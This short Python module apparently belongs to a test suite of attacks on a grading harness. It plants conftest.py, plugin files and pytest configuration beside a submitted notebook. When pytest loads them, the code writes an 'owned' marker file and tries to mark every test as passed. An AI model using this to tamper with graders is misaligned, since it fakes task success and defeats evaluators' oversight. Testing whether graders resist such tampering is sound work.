"""Puts a conftest.py, pytest.ini and setup.cfg beside the notebook, for pytest to load."""

from attacks.submitting import hand_in, notebook

HONEST = 0.0


def submit(submitted, targets):
    folder = hand_in(submitted, notebook(""))
    code = f"open({targets['submission'] + '/owned'!r}, 'w')\ndef pytest_runtest_makereport(item, call): item.passed = True\n"
    for place in (folder, folder.parent):
        for name in ("conftest.py", "test_owned.py", "plugin.py"):
            (place / name).write_text(code)
        for name in ("pytest.ini", "tox.ini", "setup.cfg", "pyproject.toml"):
            (place / name).write_text("[pytest]\naddopts = -p plugin\n[tool:pytest]\naddopts = -p plugin\n")
